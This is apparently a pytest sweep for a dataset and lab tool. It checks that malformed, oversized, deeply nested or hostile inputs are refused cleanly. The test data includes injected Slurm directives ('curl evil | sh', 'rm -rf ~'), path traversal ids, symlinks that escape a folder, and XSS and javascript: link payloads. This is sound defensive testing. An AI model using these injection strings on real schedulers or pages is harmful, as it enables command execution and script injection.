"""Issue 38's sweep (sweep c, on the surfaces added since sweep b): every case answers with exit
code 2 and exactly one line on stderr, no traceback, runs nothing and leaves nothing in --out,
as issue 16's table (test_reliability_sweep.py) checks the older surfaces.

Security (S1 sbatch strings, S2 merge's symbolic links), silent-wrong (W1 caption areas and
category ids, W2 merge without validation), hangs (an 8 MB caption, 10**9 GPUs, a 1 MB prompt)
and tracebacks (nesting past Python's stack, damaged lab files, full or read-only folders,
seeds past 64 bits). The files are a few kB each, built per case; S3 and the merge rerun have
their own tests below.
"""

from __future__ import annotations

import errno
import json
import math
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from support.probes import paint
from test_reliability_sweep import run_in_process

ROOT = Path(__file__).resolve().parents[1]
DEEP = 100_000  # brackets: json and tomllib recurse once per level, Python's stack holds about 1000


# ---------------------------------------------------------------- builders (each returns a path)

def _coco(tmp: Path, instances=None, captions=None, raw: dict | None = None) -> str:
    """A two-image COCO captions + instances pair; `instances` / `captions` edit the dicts, `raw`
    replaces a file's bytes."""
    d = tmp / "coco"
    if d.exists():
        return str(d)
    d.mkdir()
    images = [{"id": 1, "file_name": "1.jpg"}, {"id": 2, "file_name": "2.jpg"}]
    cats = [{"id": 1, "name": "dog"}, {"id": 2, "name": "cat"}, {"id": 3, "name": "person"}]
    anns = [{"id": k, "image_id": i, "category_id": c, "area": a}
            for k, (i, c, a) in enumerate([(1, 1, 500.0), (1, 2, 100.0), (2, 3, 900.0), (2, 1, 50.0)])]
    caps = [{"id": k, "image_id": i, "caption": t} for k, (i, t) in enumerate(
        [(1, "a dog and a cat"), (1, "a cat next to a dog"), (2, "a person with a dog"), (2, "a dog near a person")])]
    inst, cap = {"images": images, "categories": cats, "annotations": anns}, {"images": images, "annotations": caps}
    if instances:
        instances(inst)
    if captions:
        captions(cap)
    (d / "instances.json").write_text(json.dumps(inst))
    (d / "captions.json").write_text(json.dumps(cap))
    (d / "synonyms.toml").write_text('[synonyms]\ndog = ["puppy"]\n')
    for name, data in (raw or {}).items():
        (d / name).write_bytes(data)
    return str(d)


def _areas(value):
    def edit(inst):
        for a in inst["annotations"]:
            a["area"] = value
    return edit


def _shards(tmp: Path, damage=None) -> str:
    """Two honest shards (--shard 0/2, 1/2) of a painted 4-image dataset, then `damage(shard0, tmp)`."""
    from comco.data.folder import config_hash
    from comco.data.writer import run_plan
    from comco.io import write_json, write_jsonl
    from comco.plan import PlanConfig

    root = tmp / "shards"
    if root.exists():
        return str(root)
    base = root / "base"
    run_plan(PlanConfig(object_set="simco", objects=(2, 3), n=4, resolution=(16, 16), seed=1), base, quiet=True,
             singles=False)
    records = [json.loads(line) for line in (base / "scenes.jsonl").read_text().splitlines()]
    for i in range(2):
        s = root / f"shard{i}"
        mine = [paint(r, s / r["image"]) for r in records if r["index"] % 2 == i]
        write_jsonl(s / "scenes.jsonl", mine)
        info = json.loads((base / "dataset.json").read_text())
        info["rendered"] = True
        info["config"].setdefault("render", {})["shard"] = [i, 2]
        info["config_hash"] = config_hash(info["config"], info["object_set_hash"])
        info["counts"].update(rendered=len(mine), failed=0)
        write_json(s / "dataset.json", info)
    if damage:
        damage(root / "shard0", tmp)
    return str(root)


def _records(shard: Path, edit) -> None:
    recs = [json.loads(line) for line in (shard / "scenes.jsonl").read_text().splitlines()]
    edit(recs)
    (shard / "scenes.jsonl").write_text("".join(json.dumps(r) + "\n" for r in recs))


def _info(shard: Path, edit, rehash: bool = False) -> None:
    from comco.data.folder import config_hash

    info = json.loads((shard / "dataset.json").read_text())
    edit(info)
    if rehash:
        info["config_hash"] = config_hash(info["config"], info["object_set_hash"])
    (shard / "dataset.json").write_text(json.dumps(info))


def _first_image(shard: Path) -> Path:
    return shard / json.loads((shard / "scenes.jsonl").read_text().splitlines()[0])["image"]


def _cut(shard, _):
    p = _first_image(shard)
    p.write_bytes(p.read_bytes()[:40])


def _symlink_out(shard, tmp):  # S2: the image is a link to a file outside the shard
    secret = tmp / "secret.png"
    shutil.copy(_first_image(shard), secret)
    _first_image(shard).unlink()
    _first_image(shard).symlink_to(secret)


def _mask_out(shard, tmp):  # S2: a mask beside the images that is a link out of the shard
    secret = tmp / "secret.png"
    shutil.copy(_first_image(shard), secret)
    (shard / "masks").mkdir()
    (shard / "masks" / _first_image(shard).name).symlink_to(secret)


def _depth_missing(shard, _):
    _records(shard, lambda rs: rs[0].update(depth=f"depth/{rs[0]['id']}.png"))


def _lab(tmp: Path, damage=None) -> str:
    """A lab run folder as `comco lab run` leaves one (lab.json, recipe.toml), then `damage(out)`."""
    out = tmp / "lab"
    if out.exists():
        return str(out)
    out.mkdir()
    shutil.copy(ROOT / "recipes" / "order-bias.toml", out / "recipe.toml")
    (out / "lab.json").write_text(json.dumps({"recipe": "order-bias", "scale": "smoke"}))
    if damage:
        damage(out)
    return str(out)


def _stage_info(text: str):
    def damage(out: Path):
        from comco.lab.graph import build_stages
        from comco.lab.recipe import load_recipe
        from comco.lab.run import STAGE_INFO, stage_dir

        stage = next(iter(build_stages(load_recipe(out / "recipe.toml", "smoke"))))
        stage_dir(out, stage).mkdir(parents=True)
        (stage_dir(out, stage) / STAGE_INFO).write_text(text)
    return damage


def _recipe(tmp: Path, slurm: str) -> str:
    """order-bias with a [run.slurm] table."""
    path = tmp / "slurm-recipe.toml"
    path.write_text((ROOT / "recipes" / "order-bias.toml").read_text() + f"\n[run.slurm]\n{slurm}\n")
    return str(path)


def _file(name: str, data: bytes):
    def build(tmp: Path) -> str:
        (tmp / name).write_bytes(data)
        return str(tmp / name)
    return build


def _st_nested(tmp: Path) -> str:
    d = tmp / "st-nested"
    d.mkdir(exist_ok=True)
    (d / "modules.json").write_text("[" * DEEP)
    return str(d)


PROMPTS_OK = '[mention.prompts]\nlist = "What is in the image?"\n[matching]\nprompt = "Describe the image."\n'
BUILT = {
    "{coco}": _coco,
    "{coco-nan}": lambda t: _coco(t, _areas(math.nan)),
    "{coco-inf}": lambda t: _coco(t, lambda i: i["annotations"][0].update(area=math.inf)),  # all inf: nothing kept
    "{coco-zero}": lambda t: _coco(t, lambda i: i["annotations"][0].update(area=0)),
    "{coco-negative}": lambda t: _coco(t, lambda i: i["annotations"][1].update(area=-100.0)),
    "{coco-duplicate-category}": lambda t: _coco(t, lambda i: i["categories"].append({"id": 2, "name": "horse"})),
    "{coco-8mb-caption}": lambda t: _coco(t, captions=lambda c: c["annotations"][0].update(
        caption="a dog and a cat " * 500_000)),
    "{coco-nested-captions}": lambda t: _coco(t, raw={"captions.json": b"[" * DEEP}),
    "{coco-nested-instances}": lambda t: _coco(t, raw={"instances.json": b'{"annotations": ' + b"[" * DEEP}),
    "{coco-nested-synonyms}": lambda t: _coco(t, raw={"synonyms.toml": b"[synonyms]\ndog = " + b"[" * DEEP}),
    "{shards}": _shards,
    "{shards-cut-png}": lambda t: _shards(t, _cut),
    "{shards-traversal-id}": lambda t: _shards(t, lambda s, _: _records(s, lambda rs: rs[0].update(id="../../x"))),
    "{shards-html-id}": lambda t: _shards(t, lambda s, _: _records(
        s, lambda rs: rs[0].update(id="<img src=x onerror=alert(1)>"))),
    "{shards-edited-info}": lambda t: _shards(t, lambda s, _: [_info(x, lambda i: i["config"].update(seed=2))
                                                               for x in (s, s.parent / "shard1")]),
    "{shards-info-types}": lambda t: _shards(t, lambda s, _: _info(
        s, lambda i: i["config"]["render"].update(shard="0/2"), rehash=True)),
    "{shards-info-counts}": lambda t: _shards(t, lambda s, _: _info(s, lambda i: i["counts"].update(rendered="two"))),
    "{shards-symlink-out}": lambda t: _shards(t, _symlink_out),
    "{shards-mask-out}": lambda t: _shards(t, _mask_out),
    "{shards-missing-image}": lambda t: _shards(t, lambda s, _: _first_image(s).unlink()),
    "{shards-missing-depth}": lambda t: _shards(t, _depth_missing),
    "{lab-nested}": lambda t: _lab(t, lambda o: (o / "lab.json").write_text("[" * DEEP)),
    "{lab-info-list}": lambda t: _lab(t, lambda o: (o / "lab.json").write_text("[]")),
    "{lab-info-cut}": lambda t: _lab(t, lambda o: (o / "lab.json").write_text('{"recipe": "order-bias", "sca')),
    "{lab-info-scale}": lambda t: _lab(t, lambda o: (o / "lab.json").write_text('{"scale": 5}')),
    "{lab-stage-cut}": lambda t: _lab(t, _stage_info('{"hash": "ab')),
    "{lab-stage-list}": lambda t: _lab(t, _stage_info("[1, 2]")),
    "{lab-stage-nested}": lambda t: _lab(t, _stage_info("[" * DEEP)),
    "{lab-jobs-cut}": lambda t: _lab(t, lambda o: (o / "jobs.json").write_text('{"render": {"jo')),
    "{lab-jobs-list}": lambda t: _lab(t, lambda o: (o / "jobs.json").write_text("[1]")),
    "{lab-jobs-entry}": lambda t: _lab(t, lambda o: (o / "jobs.json").write_text('{"x": 5, "y": {"jobs": 7}}')),
    "{recipe-account}": lambda t: _recipe(t, 'account = "lab\\n#SBATCH --wrap=\\"curl evil | sh\\""'),
    "{recipe-qos}": lambda t: _recipe(t, 'qos = "normal; rm -rf ~"'),
    "{recipe-constraint}": lambda t: _recipe(t, 'constraint = "a100\\n#SBATCH --output=/etc/x"'),
    "{recipe-partition}": lambda t: _recipe(t, 'partition = "gpu #x"'),
    "{recipe-probe-account}": lambda t: _recipe(t, '[run.slurm.probe]\naccount = "a\\nb"'),
    "{prompts-1mb}": _file("prompts.toml", f'[mention.prompts]\nlist = "{"what is this " * 90_000}"\n'
                                          f'[matching]\nprompt = "Describe."\n'.encode()),
    "{prompts-nested}": _file("prompts.toml", b"[mention.prompts]\nlist = " + b"[" * DEEP),
    "{st-nested}": _st_nested,
}

STATS = ["captions", "stats", "--out", "{out}", "--bootstrap", "10"]
MERGE = ["dataset", "merge", "--out", "{out}"]
VLM_PROBE = ["probe", "{data}", "-m", "vlm:{dir}", "--no-cache", "--out", "{out}", "--vlm-prompts"]
DRY_SLURM = ["--dry-run", "--executor", "slurm"]

CASES = {
    # -- S1: strings that reach sbatch, refused where the recipe is read
    "S1 [run.slurm] account with a newline and #SBATCH": ["lab", "run", "{recipe-account}", *DRY_SLURM],
    "S1 [run.slurm] qos with a ';'": ["lab", "run", "{recipe-qos}", *DRY_SLURM],
    "S1 [run.slurm] constraint with a newline": ["lab", "run", "{recipe-constraint}", *DRY_SLURM],
    "S1 [run.slurm] partition with a space and #": ["lab", "run", "{recipe-partition}", *DRY_SLURM],
    "S1 [run.slurm.probe] account with a newline": ["lab", "run", "{recipe-probe-account}", *DRY_SLURM],
    # -- S2, W2: merge validates each shard before it writes
    "S2 merge: an image linked out of the shard": [*MERGE, "{shards-symlink-out}/shard0",
                                                   "{shards-symlink-out}/shard1"],
    "S2 merge: a mask linked out of the shard": [*MERGE, "{shards-mask-out}/shard0", "{shards-mask-out}/shard1"],
    "W2 merge: a cut PNG": [*MERGE, "{shards-cut-png}/shard0", "{shards-cut-png}/shard1"],
    "W2 merge: a traversal id": [*MERGE, "{shards-traversal-id}/shard0", "{shards-traversal-id}/shard1"],
    "W2 merge: an HTML id": [*MERGE, "{shards-html-id}/shard0", "{shards-html-id}/shard1"],
    "W2 merge: an edited dataset.json": [*MERGE, "{shards-edited-info}/shard0", "{shards-edited-info}/shard1"],
    # -- W1: caption statistics on areas and categories that are not sizes
    "W1 captions stats: NaN areas": [*STATS, "--captions", "{coco-nan}/captions.json", "--instances",
                                     "{coco-nan}/instances.json"],
    "W1 captions stats: an infinite area": [*STATS, "--captions", "{coco-inf}/captions.json", "--instances",
                                          "{coco-inf}/instances.json"],
    "W1 captions stats: a zero area": [*STATS, "--captions", "{coco-zero}/captions.json", "--instances",
                                       "{coco-zero}/instances.json"],
    "W1 captions stats: a negative area": [*STATS, "--captions", "{coco-negative}/captions.json", "--instances",
                                           "{coco-negative}/instances.json"],
    "W1 captions stats: duplicate category ids": [*STATS, "--captions", "{coco-duplicate-category}/captions.json",
                                                  "--instances", "{coco-duplicate-category}/instances.json"],
    # -- hangs: each input bounded where it is read
    "hang: captions stats on an 8 MB caption": [*STATS, "--captions", "{coco-8mb-caption}/captions.json",
                                                "--instances", "{coco-8mb-caption}/instances.json"],
    "hang: lab run --dry-run --executor node --gpus 10**9": ["lab", "run", "order-bias", "--dry-run", "--executor",
                                                             "node", "--gpus", "1000000000"],
    "hang: a 1 MB prompt in --vlm-prompts": [*VLM_PROBE, "{prompts-1mb}"],
    # -- tracebacks: nesting past Python's stack
    "nested st: modules.json": ["probe", "--text-only", "--object-set", "simco", "-m", "st:{st-nested}", "--out",
                                "{out}"],
    "nested captions file": [*STATS, "--captions", "{coco-nested-captions}/captions.json", "--instances",
                             "{coco-nested-captions}/instances.json"],
    "nested instances file": [*STATS, "--captions", "{coco-nested-instances}/captions.json", "--instances",
                              "{coco-nested-instances}/instances.json"],
    "nested synonyms file": [*STATS, "--captions", "{coco-nested-synonyms}/captions.json", "--instances",
                             "{coco-nested-synonyms}/instances.json", "--synonyms",
                             "{coco-nested-synonyms}/synonyms.toml"],
    "nested VLM prompts": [*VLM_PROBE, "{prompts-nested}"],
    "nested lab.json (lab status)": ["lab", "status", "{lab-nested}"],
    # -- tracebacks: lab status on damaged bookkeeping
    "lab status: lab.json a list": ["lab", "status", "{lab-info-list}"],
    "lab status: lab.json cut": ["lab", "status", "{lab-info-cut}"],
    "lab status: lab.json scale a number": ["lab", "status", "{lab-info-scale}"],
    "lab status: stage.json cut": ["lab", "status", "{lab-stage-cut}"],
    "lab status: stage.json a list": ["lab", "status", "{lab-stage-list}"],
    "lab status: stage.json nested": ["lab", "status", "{lab-stage-nested}"],
    "lab status: jobs.json cut": ["lab", "status", "{lab-jobs-cut}"],
    "lab status: jobs.json a list": ["lab", "status", "{lab-jobs-list}"],
    "lab status: jobs.json entries not job lists": ["lab", "status", "{lab-jobs-entry}"],
    # -- tracebacks: merge
    "merge: a missing image": [*MERGE, "{shards-missing-image}/shard0", "{shards-missing-image}/shard1"],
    "merge: a missing depth map": [*MERGE, "{shards-missing-depth}/shard0", "{shards-missing-depth}/shard1"],
    "merge: dataset.json's shard a string": [*MERGE, "{shards-info-types}/shard0", "{shards-info-types}/shard1"],
    "merge: dataset.json's counts a string": [*MERGE, "{shards-info-counts}/shard0", "{shards-info-counts}/shard1"],
    "merge: a read-only --out": [*MERGE, "{shards}/shard0", "{shards}/shard1"],
    "merge: a full --out": [*MERGE, "{shards}/shard0", "{shards}/shard1"],
    # -- tracebacks: captions stats writes
    "captions stats: a read-only --out": [*STATS, "--captions", "{coco}/captions.json", "--instances",
                                          "{coco}/instances.json"],
    "captions stats: a full --out": [*STATS, "--captions", "{coco}/captions.json", "--instances",
                                     "{coco}/instances.json"],
    # -- tracebacks: seeds and counts past their range
    "plan --holdout pairs:auto:0.1:2**64": ["plan", "--out", "{out}", "--holdout", f"pairs:auto:0.1:{2**64}"],
    "render --executor slurm-local --shards 10**6": ["render", "--out", "{out}", "--n", "4", "--executor",
                                                     "slurm-local", "--shards", "1000000"],
}
# The cases whose disk refuses writes under --out: (errno, what it says)
DISK = {"merge: a read-only --out": errno.EROFS, "merge: a full --out": errno.ENOSPC,
        "captions stats: a read-only --out": errno.EROFS, "captions stats: a full --out": errno.ENOSPC}


def _args(case: str, tmp_path: Path) -> tuple[list[str], Path]:
    d = tmp_path / "in"
    d.mkdir(parents=True)
    out = tmp_path / "out"
    if any("{data}" in a for a in CASES[case]):
        from support.probes import make_dataset

        make_dataset(tmp_path / "data", n=2, resolution=16, singles=False)
    sub = {"{out}": str(out), "{dir}": str(d), "{data}": str(tmp_path / "data")}
    args = []
    for a in CASES[case]:
        for k, v in sub.items():
            a = a.replace(k, v)
        for k, build in BUILT.items():
            if k in a:
                a = a.replace(k, build(tmp_path))
        args.append(a)
    return args, out


def _refuse_writes(monkeypatch, tmp_path: Path, code: int) -> None:
    """The disk under --out (and merge's folder beside it) refuses every write with `code`."""
    def under_out(path) -> bool:
        try:
            rel = Path(os.fspath(path)).resolve().relative_to(tmp_path.resolve())
        except ValueError:
            return False
        return rel.parts[:1] in (("out",), (".out.merging",))

    def refusing(real, *which):
        def call(*args, **kwargs):
            paths = [args[i] for i in which if i < len(args)] + [kwargs.get("dir")]
            if any(p is not None and under_out(p) for p in paths):
                raise OSError(code, os.strerror(code), str(paths[0]))
            return real(*args, **kwargs)
        return call

    import tempfile

    import comco.io

    monkeypatch.setattr(os, "link", refusing(os.link, 1))
    monkeypatch.setattr(shutil, "copy2", refusing(shutil.copy2, 1))
    monkeypatch.setattr(comco.io, "_temp_beside", refusing(comco.io._temp_beside, 0))  # every file comco writes
    if code != errno.ENOSPC:  # a full disk still makes folders and empty files; a read-only one makes nothing
        monkeypatch.setattr(os, "mkdir", refusing(os.mkdir, 0))
        monkeypatch.setattr(os, "open", refusing(os.open, 0))
        monkeypatch.setattr(tempfile, "mkstemp", refusing(tempfile.mkstemp))


@pytest.mark.parametrize("case", list(CASES))
def test_sweep_c_cases_are_one_line_exit_2_and_leave_nothing(case, tmp_path, capsys, monkeypatch):
    args, out = _args(case, tmp_path)
    before = {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*") if p.is_file()}
    if case in DISK:
        _refuse_writes(monkeypatch, tmp_path, DISK[case])
    code, err = run_in_process(args, capsys, monkeypatch)  # a traceback propagates and fails the test
    lines = err.strip().splitlines()
    if os.environ.get("SWEEP_SHOW"):
        print(f"\nSHOW {case}: {code} {err.strip()[:300]}")
    assert code == 2, (code, err[-2000:])
    assert len(lines) == 1 and lines[0].startswith("comco: error: "), err[-2000:]
    assert not out.exists() or not any(out.iterdir()), sorted(p.name for p in out.iterdir())
    assert not (tmp_path / ".out.merging").exists()
    after = {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*") if p.is_file() and p.parent.name != "__pycache__"}
    assert {p: t for p, t in after.items() if p in before} == {p: t for p, t in before.items() if p in after}
    assert set(after) <= set(before), sorted(map(str, set(after) - set(before)))  # nothing new, nothing touched


def test_the_honest_inputs_of_the_table_pass(tmp_path, capsys, monkeypatch):
    """The builders' undamaged files: the table's cases fail for their damage, not for the fixture."""
    for case, args in (("merge", [*MERGE, "{shards}/shard0", "{shards}/shard1"]),
                       ("stats", [*STATS, "--captions", "{coco}/captions.json", "--instances", "{coco}/instances.json",
                                  "--synonyms", "{coco}/synonyms.toml"])):
        CASES[f"honest {case}"] = args
        try:
            argv, out = _args(f"honest {case}", tmp_path / case)
        finally:
            del CASES[f"honest {case}"]
        code, err = run_in_process(argv, capsys, monkeypatch)
        assert code == 0, (case, err[-2000:])
        assert (out / ("scenes.jsonl" if case == "merge" else "caption-bias.md")).is_file()


def test_a_merge_killed_half_way_can_be_run_again(tmp_path):
    """W2: a merge SIGKILLed while it links files leaves no --out; the same command then merges
    everything (the shards are untouched)."""
    shards = Path(_shards(tmp_path))
    out = tmp_path / "merged"
    shard_files = {p: p.read_bytes() for p in shards.rglob("*") if p.is_file()}
    code = ("import os, signal, sys\n"
            "import comco.data.merge as m\n"
            "real, n = m._link_or_copy, [0]\n"
            "def dying(src, dst):\n"
            "    real(src, dst); n[0] += 1\n"
            "    if n[0] == 2: os.kill(os.getpid(), signal.SIGKILL)\n"
            "m._link_or_copy = dying\n"
            "sys.argv = ['comco', 'dataset', 'merge', sys.argv[1], sys.argv[2], '--out', sys.argv[3]]\n"
            "from comco.cli.app import main\nmain()\n")
    r = subprocess.run([sys.executable, "-c", code, str(shards / "shard0"), str(shards / "shard1"), str(out)],
                       capture_output=True, text=True)
    assert r.returncode == -9, r.stderr[-2000:]
    assert not out.exists() or not any(out.iterdir())  # nothing partial under --out
    r = subprocess.run([sys.executable, "-m", "comco.cli", "dataset", "merge", str(shards / "shard0"),
                        str(shards / "shard1"), "--out", str(out)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr[-2000:]
    assert len((out / "scenes.jsonl").read_text().splitlines()) == 4
    assert len(list((out / "images").glob("*.png"))) == 4
    assert not any(p.name.startswith(".merged") for p in tmp_path.iterdir())
    assert {p: p.read_bytes() for p in shards.rglob("*") if p.is_file()} == shard_files


def test_descriptions_links_to_other_schemes_are_not_live(tmp_path):
    """S3: a recipe description's javascript:/data:/vbscript: links, autolinks, raw HTML and link
    definitions are text once report.md is rendered (markdown-it, CommonMark) and in report.html."""
    from markdown_it import MarkdownIt

    from comco.report import Doc

    evil = ("See [x](javascript:alert(1)), [y]( JaVa&#x73;cript:alert(2)), ![i](data:text/html;base64,PHNjcmlwdD4=), "
            "<vbscript:msgbox(1)>, <a href='javascript:alert(3)'>z</a>, <img src=x onerror=alert(4)> and [r][1].\n\n"
            "[1]: javascript:alert(5)\n\nKept: [the paper](https://arxiv.org/abs/2410.00000).")
    from comco.report import defuse_markdown

    doc = Doc()
    for para in evil.split("\n\n"):
        doc.p(defuse_markdown(para))
    page = MarkdownIt("commonmark").render(doc.markdown(tmp_path)).lower()
    for scheme in ("javascript:", "data:", "vbscript:"):
        assert f'href="{scheme}' not in page.replace(" ", "") and f'src="{scheme}' not in page, page
    assert "<img" not in page and page.count("<a ") == 1, page
    assert '<a href="https://arxiv.org/abs/2410.00000">' in page  # a web link stays a link
    body = doc.html("report").lower().split("<body")[-1]
    assert "<a " not in body.replace("<a href='#", "") and "<img" not in body, body


def test_a_prompt_of_a_megabyte_is_refused_where_the_prompts_are_read(tmp_path):
    """The hang of a 1 MB --vlm-prompts prompt: refused by load_prompts, before any model loads (the
    table's case reaches it only after its model reference is checked)."""
    from comco.errors import UserError
    from comco.probes.mention import load_prompts

    path = Path(BUILT["{prompts-1mb}"](tmp_path))
    with pytest.raises(UserError, match="longer than"):
        load_prompts(path)
    (tmp_path / "ok.toml").write_text(PROMPTS_OK)
    assert load_prompts(tmp_path / "ok.toml").matching == "Describe the image."
